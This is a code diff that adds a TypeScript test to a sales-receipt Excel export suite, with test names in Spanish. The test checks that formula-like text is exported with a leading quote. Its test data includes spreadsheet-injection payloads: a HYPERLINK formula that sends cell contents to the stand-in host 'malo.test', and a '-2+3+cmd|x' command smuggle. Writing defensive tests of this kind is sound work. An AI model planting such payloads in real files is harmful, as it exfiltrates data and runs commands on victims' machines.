@@ -174,6 +174,43 @@ describe('Excel de ventas', () => {
     expect(listed.some((each) => each.productLines.length > 1)).toBe(true);
   });
 
+  it('un texto que empieza como fórmula sale como texto (con comilla); números y fechas, igual', async () => {
+    const seller = env.demo.users[SELLER]!;
+    const [receipt] = await env.database.handle.db
+      .select()
+      .from(receipts)
+      .where(and(eq(receipts.sellerId, seller.id), eq(receipts.kind, 'receipt')))
+      .limit(1);
+    const formula = '=HYPERLINK("http://malo.test/?d="&A1,"Ver")';
+    const db = env.database.handle.db;
+    await db
+      .update(receipts)
+      .set({ name: formula, govId: '@SUM(1+1)', product: '-2+3+cmd|x' })
+      .where(eq(receipts.id, receipt!.id));
+    try {
+      const response = await fetch(`${env.app.url}/api/receipt/excel?user=${seller.id}`, {
+        headers: { authorization: `Bearer ${await env.tokenOf(COMERCIAL)}` },
+      });
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(await response.arrayBuffer());
+      const sheet = workbook.worksheets[0]!;
+      let found: ExcelJS.Row | undefined;
+      sheet.eachRow((row) => {
+        if (row.getCell(1).value === receipt!.ticketId) found = row;
+      });
+      expect(found!.getCell(6).value).toBe(`'${formula}`);
+      expect(found!.getCell(7).value).toBe("'@SUM(1+1)");
+      expect(found!.getCell(8).value).toBe("'-2+3+cmd|x");
+      expect(typeof found!.getCell(9).value).toBe('number');
+      expect(found!.getCell(3).value).toBeInstanceOf(Date);
+    } finally {
+      await db
+        .update(receipts)
+        .set({ name: receipt!.name, govId: receipt!.govId, product: receipt!.product })
+        .where(eq(receipts.id, receipt!.id));
+    }
+  });
+
   it('un vendedor descarga solo sus ventas; otra empresa ninguna de esta', async () => {
     const seller = env.demo.users[SELLER]!;
     const [own] = await env.database.handle.db
